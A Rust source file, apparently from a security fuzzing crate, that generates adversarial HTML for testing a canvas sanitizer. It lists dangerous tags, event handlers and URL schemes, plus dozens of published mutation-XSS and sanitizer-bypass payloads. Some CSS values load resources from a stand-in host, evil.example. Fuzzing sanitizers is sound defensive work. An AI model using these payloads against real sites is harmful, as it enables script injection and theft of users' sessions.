//! Adversarial canvas generators: an XSS and mutation-XSS grammar of HTML
//! (HTML, SVG, MathML and obsolete tags, every event handler, URL
//! attributes with scheme obfuscations, raw-text and re-parsing contexts,
//! comments, CDATA, broken markup, quoting variants) mixed with a benign
//! grammar of canvas markup, decoded by `arbitrary` from any byte string.
//!
//! The grammar is a **token stream** ([`Token`]): opening and closing tags
//! are separate tokens, so unclosed, mis-nested and stray markup comes for
//! free, and a [`Context`] token wraps what follows in a raw-text or
//! re-parsing context (`<svg><style>`, `<math><mtext><table><mglyph><style>`,
//! `<noscript>`, `<template>`, `<iframe srcdoc>`, …). Every name from the
//! tables has near misses ([`Spelling`]): case, prefixes, extensions,
//! Unicode look-alikes, NUL and namespaced spellings.
//!
//! ```
//! use secfuzz::canvas::gen::CanvasInput;
//! let input: CanvasInput = secfuzz::harness::decode_value(b"\x01\x02\x03\x04\x05\x06\x07").unwrap();
//! let html: String = input.payload();
//! # let _ = html;
//! ```

use std::fmt;
use std::ops::ControlFlow;

use arbitrary::{Arbitrary, Result, Unstructured};

use super::{Level, MAX_DEPTH, MAX_INPUT_LEN};

/// Tags: the policy's allowlist, dangerous HTML, SVG and MathML elements,
/// obsolete and raw-text elements.
pub const TAGS: &[&str] = &[
    // allowed at Markup
    "a",
    "abbr",
    "b",
    "blockquote",
    "br",
    "caption",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "details",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "h1",
    "h2",
    "h3",
    "hr",
    "i",
    "img",
    "ins",
    "li",
    "ol",
    "p",
    "pre",
    "q",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "ul",
    "time",
    "mark",
    "meter",
    "progress",
    "form",
    "fieldset",
    "legend",
    "label",
    "input",
    "select",
    "option",
    "optgroup",
    "textarea",
    "button",
    "output",
    "data",
    "section",
    "article",
    // script carriers and embedding
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "param",
    "base",
    "meta",
    "link",
    "style",
    "portal",
    "fencedframe",
    "audio",
    "video",
    "source",
    "track",
    "picture",
    "html",
    "head",
    "body",
    "dialog",
    "slot",
    "canvas",
    // raw text and re-parsing
    "noscript",
    "noembed",
    "noframes",
    "template",
    "xmp",
    "plaintext",
    "title",
    "listing",
    // obsolete
    "marquee",
    "blink",
    "bgsound",
    "layer",
    "ilayer",
    "keygen",
    "isindex",
    "image",
    "font",
    "center",
    "nobr",
    "menu",
    "menuitem",
    "acronym",
    "basefont",
    "comment",
    // SVG
    "svg",
    "g",
    "path",
    "rect",
    "text",
    "use",
    "foreignObject",
    "animate",
    "set",
    "animateTransform",
    "animateMotion",
    "desc",
    "feImage",
    "handler",
    "listener",
    "tspan",
    // MathML
    "math",
    "mi",
    "mo",
    "mn",
    "ms",
    "mtext",
    "mglyph",
    "malignmark",
    "annotation-xml",
    "annotation",
    "semantics",
    "maction",
    "mstyle",
];

/// Every event-handler attribute (HTML, SVG, obsolete and
/// browser-specific ones).
pub const EVENT_HANDLERS: &[&str] = &[
    "onabort",
    "onafterprint",
    "onafterscriptexecute",
    "onanimationcancel",
    "onanimationend",
    "onanimationiteration",
    "onanimationstart",
    "onauxclick",
    "onbeforecopy",
    "onbeforecut",
    "onbeforeinput",
    "onbeforeprint",
    "onbeforescriptexecute",
    "onbeforetoggle",
    "onbeforeunload",
    "onbegin",
    "onblur",
    "oncancel",
    "oncanplay",
    "oncanplaythrough",
    "onchange",
    "onclick",
    "onclose",
    "oncontentvisibilityautostatechange",
    "oncontextmenu",
    "oncopy",
    "oncuechange",
    "oncut",
    "ondblclick",
    "ondrag",
    "ondragend",
    "ondragenter",
    "ondragleave",
    "ondragover",
    "ondragstart",
    "ondrop",
    "ondurationchange",
    "onend",
    "onended",
    "onerror",
    "onfocus",
    "onfocusin",
    "onfocusout",
    "onformdata",
    "onfullscreenchange",
    "onhashchange",
    "oninput",
    "oninvalid",
    "onkeydown",
    "onkeypress",
    "onkeyup",
    "onload",
    "onloadeddata",
    "onloadedmetadata",
    "onloadstart",
    "onmessage",
    "onmousedown",
    "onmouseenter",
    "onmouseleave",
    "onmousemove",
    "onmouseout",
    "onmouseover",
    "onmouseup",
    "onmousewheel",
    "onmozfullscreenchange",
    "onpagehide",
    "onpageshow",
    "onpaste",
    "onpause",
    "onplay",
    "onplaying",
    "onpointercancel",
    "onpointerdown",
    "onpointerenter",
    "onpointerleave",
    "onpointermove",
    "onpointerout",
    "onpointerover",
    "onpointerrawupdate",
    "onpointerup",
    "onpopstate",
    "onprogress",
    "onratechange",
    "onrepeat",
    "onreset",
    "onresize",
    "onscroll",
    "onscrollend",
    "onscrollsnapchange",
    "onsearch",
    "onseeked",
    "onseeking",
    "onselect",
    "onselectionchange",
    "onselectstart",
    "onshow",
    "onstart",
    "onsubmit",
    "onsuspend",
    "ontimeupdate",
    "ontoggle",
    "ontouchend",
    "ontouchmove",
    "ontouchstart",
    "ontransitioncancel",
    "ontransitionend",
    "ontransitionrun",
    "ontransitionstart",
    "onunhandledrejection",
    "onunload",
    "onvolumechange",
    "onwaiting",
    "onwebkitanimationend",
    "onwebkitanimationiteration",
    "onwebkitanimationstart",
    "onwebkittransitionend",
    "onwheel",
    "onactivate",
    "onbeforeactivate",
    "onfocusable",
    "onreadystatechange",
    "onfinish",
];

/// URL attributes.
pub const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "srcset",
    "poster",
    "background",
    "data",
    "cite",
    "ping",
    "longdesc",
    "lowsrc",
    "dynsrc",
    "codebase",
    "manifest",
    "icon",
    "itemtype",
    "usemap",
];

/// Other attributes: the allowlist, DOM-clobbering and re-parsing
/// carriers, SVG animation, styles.
pub const OTHER_ATTRIBUTES: &[&str] = &[
    "id",
    "name",
    "class",
    "title",
    "lang",
    "dir",
    "role",
    "style",
    "srcdoc",
    "http-equiv",
    "content",
    "target",
    "formtarget",
    "rel",
    "type",
    "method",
    "attributeName",
    "to",
    "from",
    "values",
    "by",
    "begin",
    "xmlns",
    "xmlns:xlink",
    "is",
    "for",
    "headers",
    "open",
    "alt",
    "width",
    "height",
    "colspan",
    "rowspan",
    "value",
    "placeholder",
    "encoding",
    "dur",
    "aria-label",
    "aria-labelledby",
    "aria-describedby",
    "tabindex",
    "autofocus",
    "popover",
    "popovertarget",
    "contenteditable",
    "slot",
    "part",
    "form",
    "data-x",
    "align",
    "start",
    "datetime",
    "label",
    "selected",
    "checked",
];

/// Schemes for URL values: dangerous, allowed, and near misses of the
/// allowed ones.
pub const SCHEMES: &[&str] = &[
    "javascript",
    "vbscript",
    "livescript",
    "data",
    "jar",
    "file",
    "blob",
    "filesystem",
    "about",
    "intent",
    "ms-its",
    "mhtml",
    "view-source",
    "feed",
    "http",
    "https",
    "mailto",
    "htt",
    "httpx",
    "http+s",
    "https-",
    "mailt",
    "mailtoo",
    "ftp",
    "tel",
    "sms",
    "ws",
    "wss",
    "javascrip",
    "javascripts",
];

/// MIME types for `data:` values: the raster types the policy allows and
/// near misses.
pub const DATA_TYPES: &[&str] = &[
    "image/png",
    "image/jpeg",
    "image/gif",
    "image/webp",
    "image/avif",
    "image/svg+xml",
    "text/html",
    "application/javascript",
    "text/javascript",
    "image/pn",
    "image/pngx",
    "IMAGE/PNG",
    " image/png",
    "image/png ",
    "image/",
    "image",
    "image/x-icon",
    "image/bmp",
    "application/xhtml+xml",
    "text/xml",
    "",
];

/// Values meant to clobber `window`/`document` properties (and near misses
/// of the prefix).
pub const CLOBBER_NAMES: &[&str] = &[
    "location",
    "cookie",
    "domain",
    "body",
    "forms",
    "images",
    "alert",
    "getElementById",
    "defaultView",
    "currentScript",
    "config",
    "__proto__",
    "user-content-x",
    "user-content-",
    "user-content",
    "User-Content-x",
    "user_content-x",
    "x",
    "",
];

/// CSS values for `style` attributes.
pub const CSS: &[&str] = &[
    "color:red",
    "background:url(javascript:alert(1))",
    "background-image:url('https://evil.example/x')",
    "width:expression(alert(1))",
    "@import 'https://evil.example/x.css'",
    "-moz-binding:url(https://evil.example/x.xml#x)",
    "behavior:url(x.htc)",
    "animation-name:x;animation-duration:1s",
    "position:fixed;top:0;left:0;width:100%;height:100%",
    "u\\72l(javascript:alert(1))",
];

/// Script bodies for handlers and `javascript:` URLs.
pub const SCRIPTS: &[&str] = &[
    "alert(1)",
    "canvasMarker()",
    "prompt`1`",
    "confirm(document.domain)",
    "print()",
    "top['al'+'ert'](1)",
    "eval(atob('YWxlcnQoMSk='))",
    "\\u0061lert(1)",
];

/// Raw snippets: published mutation-XSS and sanitizer-bypass shapes
/// (ammonia's and DOMPurify's advisories among them) and broken markup.
pub const SNIPPETS: &[&str] = &[
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<svg><set attributeName=href to=javascript:alert(1) /><a><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mi><table><mglyph><svg><mtext><textarea><a title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#14;javascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<img src=x:x onerror=alert(1)//",
    "<img src=`x`onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<table><td><style></table><img src=x onerror=alert(1)>",
    "<p id=\"</p><img src=x onerror=alert(1)>\">",
    "<details open ontoggle=alert(1)>",
    "<form id=location></form><img name=cookie>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<object data=\"javascript:alert(1)\">",
    "<embed src=\"javascript:alert(1)\">",
    "<style>@import 'x';</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<a href=\"\u{0}javascript:alert(1)\">x</a>",
    "<a href=\" \u{1}\u{1f}javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java\rscript:alert(1)\">x</a>",
    "<a href=\"javascript\u{ff1a}alert(1)\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"/\\evil.example\">x</a>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "</br><img src=x onerror=alert(1)>",
    "<a href=x id=x tabindex=1 onfocus=alert(1) autofocus>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>y</button>",
    // foster parenting: html5ever builds a tree (a form inside a p) that
    // does not survive serialization
    "<table><p title=\"\"><form><a><a>",
    "<table><form><p><table><form>",
];

/// Tags for [`Doc::Deep`]: mostly allowed tags that nest, and wrappers the
/// policy unwraps.
pub const NESTING: &[&str] = &[
    "div",
    "b",
    "span",
    "blockquote",
    "section",
    "em",
    "i",
    "strong",
    "ul",
    "article",
    "details",
    "svg",
    "font",
    "table",
];

/// A spelling of a name from a table, near misses included.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Arbitrary)]
pub enum Spelling {
    /// As in the table.
    Exact,
    /// ASCII uppercase.
    Upper,
    /// Alternating case.
    Mixed,
    /// The first `n` characters (a prefix).
    Prefix(u8),
    /// With a suffix appended.
    Extend(Suffix),
    /// One character replaced by a Unicode look-alike.
    Lookalike(u8, Lookalike),
    /// A NUL inside.
    Nul(u8),
    /// An `svg:`/`xlink:`/`x:` namespace prefix.
    Namespaced(NsPrefix),
}

/// A suffix for [`Spelling::Extend`].
#[derive(Clone, Copy, Debug, PartialEq, Eq, Arbitrary)]
pub enum Suffix {
    /// `s`
    S,
    /// `-x`
    Dash,
    /// `1`
    Digit,
    /// `_`
    Underscore,
    /// zero-width space
    Zwsp,
    /// a combining mark
    Combining,
}

/// A look-alike for [`Spelling::Lookalike`].
#[derive(Clone, Copy, Debug, PartialEq, Eq, Arbitrary)]
pub enum Lookalike {
    /// The fullwidth form (U+FF01..).
    Fullwidth,
    /// Dotless i / Kelvin sign / long s where they apply, else Cyrillic.
    Special,
    /// A soft hyphen inserted before the character.
    SoftHyphen,
    /// A zero-width joiner inserted before the character.
    Zwj,
}

/// A namespace prefix for [`Spelling::Namespaced`].
#[derive(Clone, Copy, Debug, PartialEq, Eq, Arbitrary)]
pub enum NsPrefix {
    /// `svg:`
    Svg,
    /// `xlink:`
    Xlink,
    /// `x:`
    X,
}

impl Spelling {
    /// Spell `name`.
    pub fn apply(self, name: &str) -> String {
        match self {
            Spelling::Exact => name.to_owned(),
            Spelling::Upper => name.to_ascii_uppercase(),
            Spelling::Mixed => name
                .chars()
                .enumerate()
                .map(|(i, c)| {
                    if i % 2 == 0 {
                        c.to_ascii_uppercase()
                    } else {
                        c
                    }
                })
                .collect(),
            Spelling::Prefix(n) => {
                let n = usize::from(n) % name.chars().count().max(1);
                name.chars().take(n).collect()
            }
            Spelling::Extend(s) => format!(
                "{name}{}",
                match s {
                    Suffix::S => "s",
                    Suffix::Dash => "-x",
                    Suffix::Digit => "1",
                    Suffix::Underscore => "_",
                    Suffix::Zwsp => "\u{200b}",
                    Suffix::Combining => "\u{301}",
                }
            ),
            Spelling::Lookalike(at, l) => {
                let chars: Vec<char> = name.chars().collect();
                if chars.is_empty() {
                    return String::new();
                }
                let at = usize::from(at) % chars.len();
                let mut out = String::new();
                for (i, &c) in chars.iter().enumerate() {
                    if i != at {
                        out.push(c);
                        continue;
                    }
                    match l {
                        Lookalike::Fullwidth => out.push(
                            char::from_u32(u32::from(c) + 0xFEE0)
                                .filter(|_| c.is_ascii_graphic())
                                .unwrap_or(c),
                        ),
                        Lookalike::Special => out.push(match c {
                            'i' => '\u{131}',
                            'k' => '\u{212a}',
                            's' => '\u{17f}',
                            'a' => '\u{430}',
                            'e' => '\u{435}',
                            'o' => '\u{43e}',
                            'p' => '\u{440}',
                            'c' => '\u{441}',
                            other => other.to_ascii_uppercase(),
                        }),
                        Lookalike::SoftHyphen => {
                            out.push('\u{ad}');
                            out.push(c);
                        }
                        Lookalike::Zwj => {
                            out.push('\u{200d}');
                            out.push(c);
                        }
                    }
                }
                out
            }
            Spelling::Nul(at) => {
                let chars: Vec<char> = name.chars().collect();
                let at = usize::from(at) % (chars.len() + 1);
                let mut out: String = chars[..at].iter().collect();
                out.push('\0');
                out.extend(&chars[at..]);
                out
            }
            Spelling::Namespaced(p) => format!(
                "{}{name}",
                match p {
                    NsPrefix::Svg => "svg:",
                    NsPrefix::Xlink => "xlink:",
                    NsPrefix::X => "x:",
                }
            ),
        }
    }
}

/// A pick from a table, with a spelling. Exact spellings are four times as
/// likely as each near miss family.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Pick {
    /// Index into the table (reduced modulo its length).
    pub index: u16,
    /// How it is spelled.
    pub spelling: Spelling,
}

impl<'a> Arbitrary<'a> for Pick {
    fn arbitrary(u: &mut Unstructured<'a>) -> Result<Self> {
        let index = u16::arbitrary(u)?;
        let spelling = if u.ratio(2, 3)? {
            Spelling::Exact
        } else {
            Spelling::arbitrary(u)?
        };
        Ok(Pick { index, spelling })
    }
}

impl Pick {
    fn from(self, table: &[&str]) -> String {
        self.spelling
            .apply(table[usize::from(self.index) % table.len()])
    }
}

/// An attribute name: from one of the tables.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Arbitrary)]
pub enum AttrName {
    /// An event handler.
    Handler(Pick),
    /// A URL attribute.
    Url(Pick),
    /// Another attribute.
    Other(Pick),
}

/// How a character of a URL is obfuscated.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Arbitrary)]
pub enum Obfuscation {
    /// `&#106;` (decimal), with or without `;`, with leading zeros.
    Decimal {
        /// Position in the URL.
        at: u8,
        /// Terminated by `;`.
        semicolon: bool,
        /// Leading zeros.
        zeros: u8,
    },
    /// `&#x6A;` (hex), with or without `;`, `x` or `X`.
    Hex {
        /// Position.
        at: u8,
        /// Terminated by `;`.
        semicolon: bool,
        /// `&#X`.
        upper: bool,
    },
    /// `:` as `&colon;`, tab as `&Tab;`, newline as `&NewLine;`.
    Named,
    /// A tab, LF or CR inserted (raw or as an entity).
    Whitespace {
        /// Position.
        at: u8,
        /// Which one.
        which: Ws,
        /// As `&#9;`-style entity.
        entity: bool,
    },
    /// Leading C0 controls or spaces.
    Leading(Ws, u8),
    /// Trailing C0 controls or spaces.
    Trailing(Ws, u8),
    /// The scheme's case changed.
    Case,
    /// A fullwidth colon (a near miss: not a scheme in browsers).
    FullwidthColon,
}

/// Whitespace and controls for [`Obfuscation`].
#[derive(Clone, Copy, Debug, PartialEq, Eq, Arbitrary)]
pub enum Ws {
    /// U+0009
    Tab,
    /// U+000A
    Lf,
    /// U+000D
    Cr,
    /// U+0020
    Space,
    /// U+0001
    Soh,
    /// U+000C
    Ff,
    /// U+001F
    Us,
    /// U+0000
    Nul,
    /// U+00A0 (a near miss: not stripped by browsers)
    Nbsp,
}

impl Ws {
    fn char(self) -> char {
        match self {
            Ws::Tab => '\t',
            Ws::Lf => '\n',
            Ws::Cr => '\r',
            Ws::Space => ' ',
            Ws::Soh => '\u{1}',
            Ws::Ff => '\u{c}',
            Ws::Us => '\u{1f}',
            Ws::Nul => '\0',
            Ws::Nbsp => '\u{a0}',
        }
    }
}

/// An attribute value.
#[derive(Clone, Debug, PartialEq, Eq, Arbitrary)]
pub enum Value {
    /// A URL: scheme, `:`, body, then obfuscations applied in order.
    Url {
        /// The scheme.
        scheme: Pick,
        /// For `data:`, the MIME type.
        mime: u8,
        /// `;base64`.
        base64: bool,
        /// The body: a script ([`SCRIPTS`]) or a path.
        body: UrlBody,
        /// Obfuscations.
        obfuscations: Vec<Obfuscation>,
    },
    /// A script body ([`SCRIPTS`]).
    Script(u8),
    /// A clobbering name ([`CLOBBER_NAMES`]).
    Clobber(u8),
    /// A CSS value ([`CSS`]).
    Css(u8),
    /// A benign word.
    Word(u8),
    /// Markup inside the value (for `srcdoc`, `title`, re-parsing).
    Markup(u8),
    /// Empty (`attr=""`).
    Empty,
    /// No value (`attr`).
    Bare,
    /// Free text.
    Free(String),
}

/// The body of a URL.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Arbitrary)]
pub enum UrlBody {
    /// `alert(1)` and friends.
    Script(u8),
    /// `//evil.example/x`
    Host,
    /// `x.png`
    Path,
    /// `,iVBORw0KGgo=`-like data
    Data,
}

/// How an attribute value is quoted.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Arbitrary)]
pub enum Quote {
    /// `"v"`
    Double,
    /// `'v'`
    Single,
    /// `v`
    None,
    /// `` `v` `` (not a quote in HTML)
    Backtick,
    /// `"v` (unterminated)
    Unterminated,
    /// `= "v"` with spaces around `=`
    Spaced,
}

/// One attribute.
#[derive(Clone, Debug, PartialEq, Eq, Arbitrary)]
pub struct Attr {
    /// Its name.
    pub name: AttrName,
    /// Its value.
    pub value: Value,
    /// Its quoting.
    pub quote: Quote,
}

/// A raw-text or re-parsing context wrapping the tokens that follow.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Arbitrary)]
pub enum Context {
    /// `<svg><style>`
    SvgStyle,
    /// `<math><mtext><table><mglyph><style>`
    MathMglyphStyle,
    /// `<math><mtext><table><malignmark><style>`
    MathMalignStyle,
    /// `<math><annotation-xml encoding="text/html">`
    AnnotationXml,
    /// `<svg><foreignObject>`
    ForeignObject,
    /// `<svg><desc>`
    SvgDesc,
    /// `<noscript>`
    Noscript,
    /// `<template>`
    Template,
    /// `<textarea>`
    Textarea,
    /// `<title>`
    Title,
    /// `<xmp>`
    Xmp,
    /// `<noembed>`
    Noembed,
    /// `<noframes>`
    Noframes,
    /// `<iframe>` (raw text)
    Iframe,
    /// `<iframe srcdoc="...">` (content entity-escaped into the attribute)
    IframeSrcdoc,
    /// `<!-- ... -->`
    Comment,
    /// `<! ... >` (bogus comment)
    BogusComment,
    /// `<![CDATA[ ... ]]>`
    Cdata,
    /// `<select>`
    Select,
    /// `<table>` (foster parenting)
    Table,
    /// `<form>` twice (nested forms)
    NestedForm,
    /// `<svg><a>`
    SvgLink,
    /// `<p title="...">` (content inside an attribute value)
    InAttribute,
}

impl Context {
    fn open(self) -> &'static str {
        match self {
            Context::SvgStyle => "<svg><style>",
            Context::MathMglyphStyle => "<math><mtext><table><mglyph><style>",
            Context::MathMalignStyle => "<math><mtext><table><malignmark><style>",
            Context::AnnotationXml => "<math><annotation-xml encoding=\"text/html\">",
            Context::ForeignObject => "<svg><foreignObject>",
            Context::SvgDesc => "<svg><desc>",
            Context::Noscript => "<noscript>",
            Context::Template => "<template>",
            Context::Textarea => "<textarea>",
            Context::Title => "<title>",
            Context::Xmp => "<xmp>",
            Context::Noembed => "<noembed>",
            Context::Noframes => "<noframes>",
            Context::Iframe => "<iframe>",
            Context::IframeSrcdoc => "<iframe srcdoc=\"",
            Context::Comment => "<!--",
            Context::BogusComment => "<!",
            Context::Cdata => "<![CDATA[",
            Context::Select => "<select>",
            Context::Table => "<table>",
            Context::NestedForm => "<form><form>",
            Context::SvgLink => "<svg><a>",
            Context::InAttribute => "<p title=\"",
        }
    }

    fn close(self) -> &'static str {
        match self {
            Context::SvgStyle => "</style></svg>",
            Context::MathMglyphStyle => "</style></mglyph></table></mtext></math>",
            Context::MathMalignStyle => "</style></malignmark></table></mtext></math>",
            Context::AnnotationXml => "</annotation-xml></math>",
            Context::ForeignObject => "</foreignObject></svg>",
            Context::SvgDesc => "</desc></svg>",
            Context::Noscript => "</noscript>",
            Context::Template => "</template>",
            Context::Textarea => "</textarea>",
            Context::Title => "</title>",
            Context::Xmp => "</xmp>",
            Context::Noembed => "</noembed>",
            Context::Noframes => "</noframes>",
            Context::Iframe => "</iframe>",
            Context::IframeSrcdoc => "\"></iframe>",
            Context::Comment => "-->",
            Context::BogusComment => ">",
            Context::Cdata => "]]>",
            Context::Select => "</select>",
            Context::Table => "</table>",
            Context::NestedForm => "</form></form>",
            Context::SvgLink => "</a></svg>",
            Context::InAttribute => "\">",
        }
    }

    /// Whether the content is escaped into an attribute value.
    fn escapes(self) -> bool {
        matches!(self, Context::IframeSrcdoc)
    }
}

/// How a start tag ends.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Arbitrary)]
pub enum TagEnd {
    /// `>`
    Plain,
    /// `/>`
    SelfClosing,
    /// nothing (the tag runs into what follows)
    Missing,
    /// ` >` with a space
    Spaced,
    /// `//>`-style junk
    Junk,
}

/// One token of the attack grammar.
#[derive(Clone, Debug, PartialEq, Eq, Arbitrary)]
pub enum Token {
    /// `<tag attrs>`
    Open {
        /// The tag.
        tag: Pick,
        /// Its attributes.
        attrs: Vec<Attr>,
        /// How the start tag ends.
        end: TagEnd,
    },
    /// `</tag>`
    Close(Pick),
    /// Text (`<`, `&`, entities and benign words).
    Text(TextPiece),
    /// A context around the tokens up to the matching
    /// [`Token::EndContext`] (or the end).
    Context(Context),
    /// Closes the innermost open context.
    EndContext,
    /// A snippet from [`SNIPPETS`].
    Snippet(u8),
    /// Free text.
    Free(String),
}

/// Text pieces.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Arbitrary)]
pub enum TextPiece {
    /// A word.
    Word(u8),
    /// `<`
    Lt,
    /// `>`
    Gt,
    /// `&`
    Amp,
    /// `&lt;img src=x onerror=alert(1)&gt;` (escaped markup)
    EscapedMarkup,
    /// `"` and `'`
    Quotes,
    /// A newline.
    Newline,
    /// U+0000
    Nul,
    /// `</`
    EndTagOpen,
    /// `<!--`
    CommentOpen,
    /// `-->`
    CommentClose,
}

/// The benign canvas grammar: structures an agent produces.
#[derive(Clone, Debug, PartialEq, Eq, Arbitrary)]
pub enum Benign {
    /// `<hN>` heading.
    Heading(u8, u8),
    /// A paragraph of inline runs.
    Paragraph(Vec<Inline>),
    /// A list (ordered or not) of inline items.
    List(bool, Vec<Vec<Inline>>),
    /// A table: caption word, header cells, rows of cells.
    Table(u8, u8, Vec<u8>),
    /// A figure with an image (`https`, relative or `data:image/png`) and a
    /// caption.
    Figure(u8, u8),
    /// `<details><summary>`.
    Details(u8, Vec<Inline>),
    /// A form with labelled inputs, a select, a textarea and a button.
    Form(u8, Vec<u8>),
    /// `<pre><code>`.
    Code(u8),
    /// `<blockquote>`.
    Quote(Vec<Inline>),
    /// `<hr>`.
    Rule,
}

/// Inline runs of the benign grammar.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Arbitrary)]
pub enum Inline {
    /// A word.
    Word(u8),
    /// `<strong>`
    Strong(u8),
    /// `<em>`
    Em(u8),
    /// `<code>`
    Code(u8),
    /// `<a href=https://…>`, relative or `mailto:`
    Link(u8, u8),
    /// `<br>`
    Break,
    /// `<sup>` footnote mark
    Sup(u8),
}

/// What the document is.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Doc {
    /// The attack grammar.
    Attack(Vec<Token>),
    /// The benign grammar (judged for preservation too).
    Benign(Vec<Benign>),
    /// Benign blocks with attack tokens interleaved.
    Mixed(Vec<Benign>, Vec<Token>),
    /// `depth` nested copies of a tag around a snippet (the depth cap and
    /// its near misses).
    Deep {
        /// The tag (from [`NESTING`]).
        tag: u8,
        /// Depth offset around [`MAX_DEPTH`] (−4..=+4), or a small depth.
        depth: DepthPick,
        /// The innermost snippet.
        inner: u8,
    },
    /// A document of `MAX_INPUT_LEN + delta` bytes (the size cap).
    Oversize(i8),
    /// Free text.
    Free(String),
}

/// Depths for [`Doc::Deep`].
#[derive(Clone, Copy, Debug, PartialEq, Eq, Arbitrary)]
pub enum DepthPick {
    /// `MAX_DEPTH + offset` (offset reduced to −4..=4)
    AroundCap(i8),
    /// 513 and more: past Chromium's parser limit.
    PastBrowser(u8),
    /// A small depth.
    Small(u8),
}

/// One generated canvas case: a level and a document.
///
/// Its `Debug` starts with the rendered document, to paste as a
/// reproducer. `Arbitrary` is written by hand so that every remaining byte
/// goes to tokens or blocks (a derived `Vec` stops early on random bytes).
#[derive(Clone, PartialEq, Eq)]
pub struct CanvasInput {
    /// The level the document is sanitized at.
    pub level: Level,
    /// The document.
    pub doc: Doc,
}

impl<'a> Arbitrary<'a> for CanvasInput {
    fn arbitrary(u: &mut Unstructured<'a>) -> Result<Self> {
        let level = Level::arbitrary(u)?;
        let kind: u8 = u.int_in_range(0..=15)?;
        let doc = match kind {
            0..=8 => Doc::Attack(tokens(u)?),
            9..=10 => {
                let mut blocks = Vec::new();
                u.arbitrary_loop(None, Some(64), |u| {
                    blocks.push(Benign::arbitrary(u)?);
                    Ok(ControlFlow::Continue(()))
                })?;
                Doc::Benign(blocks)
            }
            11..=12 => {
                let blocks = Vec::<Benign>::arbitrary(u)?;
                Doc::Mixed(blocks, tokens(u)?)
            }
            13 => Doc::Deep {
                tag: u.arbitrary()?,
                depth: u.arbitrary()?,
                inner: u.arbitrary()?,
            },
            14 => Doc::Oversize(u.arbitrary()?),
            _ => Doc::Free(u.arbitrary()?),
        };
        Ok(CanvasInput { level, doc })
    }
}

fn tokens(u: &mut Unstructured<'_>) -> Result<Vec<Token>> {
    let mut out = Vec::new();
    u.arbitrary_loop(None, Some(256), |u| {
        out.push(Token::arbitrary(u)?);
        Ok(ControlFlow::Continue(()))
    })?;
    Ok(out)
}

impl fmt::Debug for CanvasInput {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let payload = self.payload();
        if payload.len() > 4096 {
            writeln!(
                f,
                "{:?}… ({} bytes)",
                &payload[..payload.floor_char_boundary_compat(4096)],
                payload.len()
            )?;
        } else {
